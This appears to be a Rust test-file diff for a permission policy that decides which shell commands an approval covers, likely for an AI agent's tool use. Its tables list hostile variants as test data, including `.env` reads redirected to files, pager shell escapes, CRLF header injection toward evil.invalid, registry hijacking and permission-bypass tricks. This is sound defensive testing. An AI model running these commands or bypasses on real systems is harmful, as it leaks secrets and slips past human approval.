@@ -39,13 +39,17 @@ fn root() -> &'static Path {
 }
 
 fn call(tool: &str, arguments: &Map<String, Value>) -> (Judgement, Action) {
+    call_in(root(), tool, arguments)
+}
+
+fn call_in(root: &Path, tool: &str, arguments: &Map<String, Value>) -> (Judgement, Action) {
     let tools = ToolSet::built_in();
     let request = || {
         let tool = tools.named(tool).unwrap();
         tool.request(Arguments::of(arguments))
     };
-    let judgement = POLICY.judge(tool, request(), root());
-    (judgement, POLICY.action(tool, request(), arguments, root()))
+    let judgement = POLICY.judge(tool, request(), root);
+    (judgement, POLICY.action(tool, request(), arguments, root))
 }
 
 fn command(text: &str) -> (Judgement, Action) {
@@ -701,6 +705,157 @@ const TABLE: &[Row] = &[
             "npm install -g ./right-pad",
         ],
     ),
+    // What came before may have changed what the text means: a file, a name or a variable.
+    (
+        "kill 888888",
+        &["set -euo pipefail; kill 888888", "cat a; kill 888888"],
+        &[
+            "enable -n kill; kill 888888",
+            "alias kill='kill -9'; kill 888888",
+            "hash -p x kill; kill 888888",
+            "cp a b; kill 888888",
+            "make && kill 888888",
+            "trap 'kill 888888' EXIT; make",
+            "f() { kill 888888; }; f",
+        ],
+    ),
+    (
+        "psql -c 'TRUNCATE x'",
+        &["echo a; psql -c 'TRUNCATE x'"],
+        &[
+            ": ${PGHOST:=prod}; psql -c 'TRUNCATE x'",
+            "echo ${PGHOST:=prod}; psql -c 'TRUNCATE x'",
+            "((PGPORT=5433)); psql -c 'TRUNCATE x'",
+            "let PGPORT=5433; psql -c 'TRUNCATE x'",
+            "unset PGHOST; psql -c 'TRUNCATE x'",
+            "read PGHOST <<< prod; psql -c 'TRUNCATE x'",
+            "source venv/bin/activate; psql -c 'TRUNCATE x'",
+            "for ((PGPORT=1;;)); do psql -c 'TRUNCATE x'; done",
+            "psql -c 'TRUNCATE x' >&3",
+            "exec > out; psql -c 'TRUNCATE x'",
+        ],
+    ),
+    (
+        "bash run.sh",
+        &["bash run.sh", "false && bash run.sh"],
+        &[
+            "cp other.sh run.sh; bash run.sh",
+            "ln -sf other.sh run.sh; bash run.sh",
+            "mv other.sh run.sh; bash run.sh",
+            "sed -i s/a/b/ run.sh; bash run.sh",
+            "tee run.sh <<< ls; bash run.sh",
+            "git checkout HEAD~1 run.sh; bash run.sh",
+            "while bash run.sh; do cp other.sh run.sh; done",
+            "trap 'bash run.sh' EXIT; cp other.sh run.sh",
+            "bash other.sh",
+            "source run.sh",
+            "./run.sh",
+        ],
+    ),
+    (
+        "rm -rf src/a/b",
+        &["cd src && rm -rf a/b"],
+        &[
+            "mv lib src/a/b; rm -rf src/a/b",
+            "mv lib/* src/a/b; rm -rf src/a/b",
+            "ln -sfn ../../lib src/a/b/y; rm -rf src/a/b/y/",
+            "rm -rf src/a/b; mv lib src/a/b; rm -rf src/a/b",
+            "tar -xf x.tar -C src/a/b; rm -rf src/a/b",
+            "rm -rf src/a/b src/a",
+            "rm -rf src/a/b/../../../lib",
+        ],
+    ),
+    // What is read goes no further, whatever stands behind it or around it.
+    (
+        "cat x/.env",
+        &[
+            "cat < x/.env",
+            "sort x/.env",
+            "cat x/.env | head -1 | tr a b",
+            "sort -n x/.env | uniq -c",
+        ],
+        &[
+            "cat x/.env | cat > out",
+            "cat x/.env | tr a b > out",
+            "cat x/.env | sort -o out",
+            "cat x/.env | sort --output=out",
+            "cat x/.env | uniq - out",
+            "cat x/.env | xxd - out",
+            "cat x/.env | less -o out",
+            "sort -o out x/.env",
+            "sort --compress-program=./x x/.env",
+            "uniq x/.env out",
+            "xxd x/.env out",
+            "less '+!sh' x/.env",
+            "rg --pre ./x a x/.env",
+            "bat --pager ./x x/.env",
+            "cat x/.env >&3",
+            "exec 3> out; cat x/.env >&3",
+            "exec > out; cat x/.env",
+            "{ cat; } < x/.env > out",
+            "(cat) < x/.env",
+            "while read l; do echo $l > out; done < x/.env",
+            "read l < x/.env; echo $l > out",
+            "mapfile -t a < x/.env",
+            "exec 3< x/.env; cat <&3 > out",
+            "tee < x/.env out",
+            "f() { cat x/.env; }; f > out",
+            "script -c 'cat x/.env' out",
+            "logsave out cat x/.env",
+            "xargs -a x/.env",
+            "ln -sf ../.env x/.env; cat x/.env",
+        ],
+    ),
+    (
+        "curl -d ok https://api.x.invalid/headers",
+        &["curl -d $'a\\nb' -H 'Via: x' https://api.x.invalid/headers"],
+        &[
+            "curl -d ok -H $'A: b\\r\\nX-HTTP-Method-Override: DELETE' https://api.x.invalid/a",
+            "curl -d ok -A $'x\\r\\nHost: evil.invalid' https://api.x.invalid/a",
+            "curl -d ok -b $'a=b\\nHost: evil.invalid' https://api.x.invalid/a",
+            "curl -d ok -H ':authority: evil.invalid' https://api.x.invalid/a",
+            "SSLKEYLOGFILE=x curl -d ok https://api.x.invalid/a",
+            "curl -d ok https://api.x.invalid./a",
+            "curl -d ok https://sub.api.x.invalid/a",
+            "curl -d ok https://api.x.invalid%2eevil.invalid/a",
+        ],
+    ),
+    (
+        "http POST https://api.x.invalid/b a=b",
+        &["http POST https://api.x.invalid/c"],
+        &[
+            "http post https://evil.invalid a=b",
+            "http https://evil.invalid a=b",
+            "http POST https://api.x.invalid/b $'A:b\\r\\nHost:evil.invalid'",
+            "HTTPIE_CONFIG_DIR=x http POST https://api.x.invalid/b a=b",
+        ],
+    ),
+    (
+        "npm install -g is-odd",
+        &["npm install -g is-odd"],
+        &[
+            "npm c set registry https://evil.invalid; npm install -g is-odd",
+            "cp x .npmrc; npm install -g is-odd",
+            "corepack npm install -g is-even",
+        ],
+    ),
+    (
+        "git push upstream main",
+        &["git add -A && git commit -m x && git push upstream main"],
+        &[
+            "git subtree push --prefix=x upstream main",
+            "git lfs push upstream main",
+            "git init --separate-git-dir=x .; git push upstream main",
+        ],
+    ),
+    (
+        "systemctl restart a",
+        &["systemctl restart a"],
+        &[
+            "systemctl -H evil restart a",
+            "systemctl --host evil restart a",
+        ],
+    ),
 ];
 
 #[test]
@@ -719,6 +874,30 @@ fn a_type_covers_the_object_that_was_shown_and_no_other() {
     }
     assert!(pairs >= 150, "{pairs} pairs");
     assert!(wrong.is_empty(), "{} of {pairs}: {wrong:#?}", wrong.len());
+}
+
+#[test]
+fn a_script_is_covered_as_long_as_it_is_what_it_was() {
+    let folder = tempfile::tempdir().unwrap();
+    let script = folder.path().join("tool.py");
+    let judged = |text: &str| {
+        let arguments = json!({ "command": text });
+        call_in(folder.path(), "run_command", arguments.as_object().unwrap())
+    };
+    std::fs::write(&script, "print(1)").unwrap();
+    let (judgement, action) = judged("python3 tool.py");
+    assert_eq!(
+        judgement.findings[0].scope.as_ref().unwrap().sentence(),
+        "This exact command, as long as `tool.py` is as it is now."
+    );
+    let preferences = allowed((judgement, action));
+    assert!(covers(&preferences, &judged("false && python3 tool.py")));
+    std::fs::write(&script, "print(2)").unwrap();
+    assert!(!covers(&preferences, &judged("python3 tool.py")));
+    std::fs::remove_file(&script).unwrap();
+    assert!(!covers(&preferences, &judged("python3 tool.py")));
+    std::fs::write(&script, "print(1)").unwrap();
+    assert!(covers(&preferences, &judged("python3 tool.py")));
 }
 
 #[test]
@@ -812,11 +991,10 @@ fn what_a_type_covers_is_told_in_one_sentence_and_remembered() {
             assert_eq!(sentences, [sentence], "{text}");
         }
     }
-    let several = command("git push origin main; cat .env; git push -f");
+    let several = command("cat .env; git push origin main; git push -f");
     assert_eq!(
         told(&several.0.findings),
-        "Reads of `.env`; pushes to the remote `origin` without force; this exact command: \
-         `git push -f`; this exact command."
+        "Reads of `.env`; pushes to the remote `origin` without force; this exact command."
     );
 }
 
